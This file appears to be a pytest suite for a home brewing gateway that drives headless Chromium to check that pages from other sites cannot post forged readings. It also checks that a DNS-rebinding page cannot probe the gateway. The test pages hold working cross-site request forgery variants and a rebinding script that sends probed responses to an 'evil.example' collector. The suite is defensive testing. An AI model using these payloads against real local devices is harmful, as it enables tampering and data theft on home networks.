"""A real Chromium in the owner's network: pages of other sites cannot report, whatever way they try.

All names lead to this machine, so a page of `evil.example` meets the gateway as a page of the Internet meets
it in a home: by plain http, under a name of the local network. A second application without the rules shows
that each way would work.
"""

import asyncio
import json
import os
import shutil
import signal
import socket
from collections.abc import AsyncIterator, Collection
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from pathlib import Path

import aiohttp
import pytest
from aiohttp import web

from gateway import site
from gateway.clock import SystemClock
from gateway.http.browsers import OwnHosts, ReportRules
from gateway.http.guard import SERVER, GuardedSite, Refusals
from gateway.http.middleware import Handler
from gateway.network import Admission
from gateway.services.build import Services, build_services
from gateway.store.sqlite.store import SqliteStore
from gateway.transports.http import HttpIngest
from tests.patience import PATIENCE_S
from tests.payloads import ispindel
from tests.program.program import until

CHROMIUM = shutil.which("chromium")

BROWSER_S = 4 * PATIENCE_S
"""A browser that starts on a busy machine takes long."""

FLAGS = (
    *("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"),
    *(
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-extensions",
        "--disable-sync",
    ),
    # The prompt would ask before a page reaches the local network: without it is the worse case.
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
    "--host-resolver-rules=MAP * 127.0.0.1",
)

EVIL, TOOL, REBOUND, GATEWAY = "evil.example", "tool.example", "rebound.example", "brew.lan"

READING = "name=evil&id=7f3a2c&temperature=20.5&temp-units=C&gravity=1.0456"

PAGE = """<!doctype html><title>evil</title><body><script>
const reading = way => JSON.stringify({name: way, ID: 7, angle: 50, temperature: 20, gravity: 1.05});
for (const target of TARGETS) {
  const url = way => `${target}/ingest/ispindel?way=${way}`;
  const read = way => `${target}/ingest/gravitymon?way=${way}&READING`;
  const post = (way, more) => fetch(url(way), {method: 'POST', mode: 'no-cors', body: reading(way), ...more});
  const add = (kind, members) => document.body.append(Object.assign(document.createElement(kind), members));
  const tries = {
    'fetch': () => post('fetch'),
    'beacon': () => navigator.sendBeacon(url('beacon'), reading('beacon')),
    'no-referrer': () => post('no-referrer', {referrerPolicy: 'no-referrer'}),
    'put': () => fetch(url('put'), {method: 'PUT', body: reading('put')}),
    'img': () => { new Image().src = read('img'); },
    'iframe': () => add('iframe', {src: read('iframe')}),
    'img-no-referrer': () => add('img', {referrerPolicy: 'no-referrer', src: read('img-no-referrer')}),
    'iframe-no-referrer': () =>
      add('iframe', {referrerPolicy: 'no-referrer', src: read('iframe-no-referrer')}),
    'get-no-referrer': () => fetch(read('get-no-referrer'), {mode: 'no-cors', referrerPolicy: 'no-referrer'}),
    'form': () => {
      const name = 'frame' + Math.random(), form = document.createElement('form');
      add('iframe', {name});
      Object.assign(form, {method: 'POST', action: url('form'), target: name, enctype: 'text/plain'});
      form.append(Object.assign(document.createElement('input'),
        {name: reading('form').slice(0, -1) + ',"x":"', value: '"}'}));
      document.body.append(form);
      form.submit();
    },
    'sandbox': () => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.srcdoc = `<script>fetch(${JSON.stringify(url('sandbox'))},
        {method: 'POST', mode: 'no-cors', body: ${JSON.stringify(reading('sandbox'))}})<` + '/script>';
      document.body.append(frame);
    },
  };
  for (const go of Object.values(tries))
    try { Promise.resolve(go()).catch(() => 0); } catch { }
}
document.body.append(Object.assign(document.createElement('iframe'), {src: 'TOOL'}));
</script>"""

ALLOWED_PAGE = """<!doctype html><script>
fetch('TARGET/ingest/ispindel', {method: 'POST', headers: {'Content-Type': 'application/json'},
  body: JSON.stringify({name: 'tool', ID: 9, angle: 50, temperature: 20, gravity: 1.05})})
  .then(answer => answer.text()).catch(error => 'failed: ' + error)
  .then(text => fetch('/heard', {method: 'POST', body: text}));
</script>"""

REBINDING_PAGE = """<!doctype html><script>
const ask = (path, more) => fetch(path, {referrerPolicy: 'no-referrer', ...more})
  .then(answer => answer.text().then(text => [path.split('?')[0], answer.status, text.slice(0, 200)]))
  .catch(error => [path, 0, String(error)]);
const body = JSON.stringify({name: 'rebound', ID: 8, angle: 50, temperature: 20, gravity: 1.05});
(async () => {
  await fetch('/rebind', {method: 'POST'});
  const found = [];
  for (const path of ['/healthz', '/openapi.json', '/docs', '/v1/recipes', '/manage/status'])
    found.push(await ask(path));
  found.push(await ask('/ingest/ispindel', {method: 'POST', body}));
  found.push(await ask('/ingest/gravitymon?READING'));
  await fetch('COLLECTOR/heard', {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});
})();
</script>"""

WAYS = {
    # Way: method, Origin, whether a Referer comes, and the status that the gateway answers.
    "fetch": ("POST", EVIL, True, 403),
    "beacon": ("POST", EVIL, True, 403),
    "form": ("POST", EVIL, True, 403),
    "no-referrer": ("POST", EVIL, False, 403),
    "sandbox": ("POST", "null", False, 403),
    "put": ("OPTIONS", EVIL, True, 204),
    "img": ("GET", None, True, 403),
    "iframe": ("GET", None, True, 403),
    "img-no-referrer": ("GET", None, False, 403),
    "iframe-no-referrer": ("GET", None, False, 403),
    "get-no-referrer": ("GET", None, False, 403),
}
"""What Chromium 156 sends."""


class NoRules(ReportRules):
    """Refuses nothing."""

    def refusal(self, *_: object) -> str | None:
        return None


class Gateway:
    """The whole site on a real socket, and the requests that reached it by the way that a page took."""

    def __init__(self, services: Services, rules: ReportRules, origins: Collection[str]) -> None:
        self.services = services
        self.requests: dict[str, tuple[web.Request, int, web.StreamResponse]] = {}
        clock, stats = services.clock, services.stats
        ingest = HttpIngest(services.intake, services.access, clock, Admission(clock), rules, stats)
        hosts = OwnHosts([GATEWAY], machine="pi")
        self._app = site.build(
            services, ingest.routes(), ingest.alias_routes(), allowed_origins=[*origins], hosts=hosts
        )
        self._app.middlewares.insert(0, self._note)

    @web.middleware
    async def _note(self, request: web.Request, handler: Handler) -> web.StreamResponse:
        answer = await handler(request)
        if way := request.query.get("way"):
            self.requests.setdefault(way, (request, answer.status, answer))
        return answer

    async def start(self, stack: AsyncExitStack) -> None:
        runner = web.AppRunner(self._app, shutdown_timeout=0.1, **SERVER)
        await runner.setup()
        stack.push_async_callback(runner.cleanup)
        listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = listener.getsockname()[1]
        self.url = f"http://{GATEWAY}:{self.port}"
        await GuardedSite(runner, listener, Refusals(SystemClock())).start()

    async def stored(self) -> int:
        return await self.services.store.readings.count() + await self.services.store.quarantine.count()


@asynccontextmanager
async def gateway(directory: Path, origins: Collection[str], *, rules: bool = True) -> AsyncIterator[Gateway]:
    store = SqliteStore(directory)
    await store.open()
    async with AsyncExitStack() as stack:
        stack.push_async_callback(store.close)
        services = build_services(store, directory, SystemClock())
        await services.access.start(first_key="test")
        await services.intake.start()
        kind = ReportRules if rules else NoRules
        made = Gateway(services, kind(origins, OwnHosts([GATEWAY], machine="pi")), origins)
        await made.start(stack)
        yield made


class Web:
    """A stranger's server, and a port of it that can be led to another one, as a rebound name is."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.heard: list[str] = []
        self.rebind_target = self.rebound_to = 0

    async def start(self, stack: AsyncExitStack) -> None:
        app = web.Application()
        app.router.add_post("/heard", self._hear)
        app.router.add_post("/rebind", self._rebind)
        app.router.add_get("/{page}", self._page)
        runner = web.AppRunner(app, shutdown_timeout=0.1)
        await runner.setup()
        stack.push_async_callback(runner.cleanup)
        listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = listener.getsockname()[1]
        await web.SockSite(runner, listener).start()
        switch = await asyncio.start_server(self._switch, "127.0.0.1", 0)
        stack.callback(switch.close)
        self.switch_port: int = switch.sockets[0].getsockname()[1]

    async def _page(self, request: web.Request) -> web.Response:
        text = self.pages.get(request.match_info["page"])
        answer = web.Response(text=text, content_type="text/html", status=200 if text else 404)
        # For the icon that a browser asks for as well: a connection that stays open is not led elsewhere.
        answer.force_close()
        return answer

    async def _hear(self, request: web.Request) -> web.Response:
        self.heard.append(await request.text())
        return web.Response(text="thanks")

    async def _rebind(self, _: web.Request) -> web.Response:
        self.rebound_to = self.rebind_target
        answer = web.Response(text="rebound")
        answer.force_close()
        return answer

    async def _switch(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        # Not at once, because a browser opens connections that it uses later.
        first = await reader.read(65_536)
        out, into = await asyncio.open_connection("127.0.0.1", self.rebound_to or self.port)
        into.write(first)

        async def copy(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
            with suppress(OSError):
                while data := await source.read(65_536):
                    sink.write(data)
                    await sink.drain()
            sink.close()

        await asyncio.gather(copy(reader, into), copy(out, writer))


@asynccontextmanager
async def browsing(directory: Path, url: str) -> AsyncIterator[None]:
    """A headless Chromium that opens the page."""
    if CHROMIUM is None:
        pytest.skip("chromium is not installed")
    process = await asyncio.create_subprocess_exec(
        *(CHROMIUM, *FLAGS, f"--user-data-dir={directory}", url),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        env={**os.environ, "HOME": str(directory)},
        start_new_session=True,
    )
    try:
        yield
    finally:
        # The whole group, because Chromium is many processes.
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        await process.wait()


async def test_no_page_of_another_site_can_report(tmp_path: Path) -> None:
    async with AsyncExitStack() as stack:
        strangers = Web()
        await strangers.start(stack)
        allowed = f"http://{TOOL}:{strangers.port}"
        ours = await stack.enter_async_context(gateway(tmp_path / "ours", [allowed]))
        open_ = await stack.enter_async_context(gateway(tmp_path / "open", [], rules=False))
        strangers.pages = {
            "page": PAGE.replace("TARGETS", json.dumps([ours.url, open_.url]))
            .replace("READING", READING)
            .replace("TOOL", f"{allowed}/tool"),
            "tool": ALLOWED_PAGE.replace("TARGET", ours.url),
        }
        evil = f"http://{EVIL}:{strangers.port}"
        await stack.enter_async_context(browsing(tmp_path / "chromium", f"{evil}/page"))
        await until(
            lambda: WAYS.keys() <= ours.requests.keys() & open_.requests.keys() and strangers.heard, BROWSER_S
        )
        for way, (method, origin, refers, status) in WAYS.items():
            request, answered, answer = ours.requests[way]
            sent = request.headers
            shown = (request.method, sent.get("Origin"), "Referer" in sent, answered)
            expected = evil if origin == EVIL else origin
            assert shown == (method, expected, refers, status), (way, dict(sent))
            assert "Sec-Fetch-Site" not in sent, way
            assert sent["User-Agent"].startswith("Mozilla/"), way
            assert not any(name.startswith("Access-Control-") for name in answer.headers), way
        # The page that the owner allowed reports, and reads the answer.
        assert '"success"' in strangers.heard[0], strangers.heard
        assert await ours.stored() == 1
        assert ours.services.stats.pages_refused == len(WAYS) - 1
        # A device of the same network is none the worse.
        async with (
            aiohttp.ClientSession() as http,
            http.post(f"http://127.0.0.1:{ours.port}/ingest", data=ispindel().encode()) as honest,
        ):
            assert honest.status == 200
        assert await ours.stored() == 2
        # Without the rules, each way but PUT, which its preflight stops, would have worked.
        assert {way for way, (_, status, _) in open_.requests.items() if status == 200} == WAYS.keys() - {
            "put"
        }


async def test_a_name_that_is_rebound_to_the_gateway_gets_nothing(tmp_path: Path) -> None:
    async with AsyncExitStack() as stack:
        strangers = Web()
        await strangers.start(stack)
        ours = await stack.enter_async_context(gateway(tmp_path / "ours", []))
        strangers.rebind_target = ours.port
        collector = f"http://{EVIL}:{strangers.port}"
        page = REBINDING_PAGE.replace("READING", READING).replace("COLLECTOR", collector)
        strangers.pages = {"page": page}
        url = f"http://{REBOUND}:{strangers.switch_port}/page"
        await stack.enter_async_context(browsing(tmp_path / "chromium", url))
        await until(lambda: strangers.heard, BROWSER_S)
        found = {path: (status, text) for path, status, text in json.loads(strangers.heard[0])}
        assert {status for status, _ in found.values()} == {403}, found
        words = f"this gateway does not go by the name {REBOUND}; `--hostname {REBOUND}`"
        for path in ("/healthz", "/openapi.json", "/docs", "/v1/recipes", "/manage/status"):
            assert json.loads(found[path][1])["detail"] == words
        assert "web pages of other sites cannot report" in found["/ingest/ispindel"][1]
        assert "a key in the path" in found["/ingest/gravitymon"][1]
        assert await ours.stored() == 0
        assert ours.services.stats.hosts_refused >= 5  # a browser asks for an icon as well
